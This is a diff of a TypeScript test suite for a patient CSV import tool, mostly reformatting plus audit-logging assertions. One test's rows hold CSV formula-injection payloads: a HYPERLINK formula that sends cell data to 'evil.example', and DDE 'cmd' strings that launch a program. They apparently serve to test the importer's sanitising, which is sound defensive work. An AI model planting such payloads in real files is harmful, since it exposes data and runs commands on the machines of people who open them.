@@ -67,7 +67,12 @@ const csv = (...lines: string[]) => `${lines.join('\n')}\n`;
 /** Moved on by the tests that need a later import to be later. */
 const clock = new TestClock();
 const cliActor = (readClock: Clock = clock.read): Actor => ({
-  staffUserId: null, username: 'cli:test', roles: [], clientAddress: null, requestId: randomUUID(), clock: readClock,
+  staffUserId: null,
+  username: 'cli:test',
+  roles: [],
+  clientAddress: null,
+  requestId: randomUUID(),
+  clock: readClock,
 });
 
 function importText(text: string | Buffer, options: Partial<ImportOptions> = {}) {
@@ -131,7 +136,11 @@ describe('importPatients', () => {
     const patients = await stored(mrn(1), mrn(2));
     const perPatient = audits.filter((audit) => audit.action === 'create');
     expect(perPatient.map((audit) => audit.patient_id).sort()).toEqual(patients.map((patient) => patient.id).sort());
-    expect(perPatient[0]).toMatchObject({ resource: 'patients', staff_username: 'cli:test', details: { source: 'import', fileName: 'extract-2026-11-25.csv' } });
+    expect(perPatient[0]).toMatchObject({
+      resource: 'patients',
+      staff_username: 'cli:test',
+      details: { source: 'import', fileName: 'extract-2026-11-25.csv' },
+    });
     expect(JSON.stringify(audits.map((audit) => audit.details))).not.toMatch(new RegExp(`${prefix}|Importfamily|Given1|1980-05-17`));
   });
 
@@ -350,8 +359,8 @@ describe('importPatients', () => {
       csv(
         HEADER,
         row(1, { family_name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' }),
-        row(2, { given_name: '+cmd|\' /C calc\'!A0' }),
-        row(3, { address_line1: '@SUM(1+1)*cmd|\' /C calc\'!A0' }),
+        row(2, { given_name: "+cmd|' /C calc'!A0" }),
+        row(3, { address_line1: "@SUM(1+1)*cmd|' /C calc'!A0" }),
         row(4, { city: '-2+3' }),
         row(5, { address_line2: '\t=1+1' }),
         row(6, { phone: '+1 860 555 0100' }),
@@ -515,12 +524,7 @@ describe('npm run import:patients', () => {
       const columns = COLUMNS.filter((column) => column !== 'sex');
       await fs.writeFile(noSex, csv(columns.join(','), row(3, {}, columns)));
 
-      const [imported, rejected, refused, usage] = await Promise.all([
-        runCli(good),
-        runCli(bad, '--rejects', rejects),
-        runCli(noSex),
-        runCli(),
-      ]);
+      const [imported, rejected, refused, usage] = await Promise.all([runCli(good), runCli(bad, '--rejects', rejects), runCli(noSex), runCli()]);
       const again = await runCli(good, '--dry-run');
 
       expect(imported.code).toBe(0);
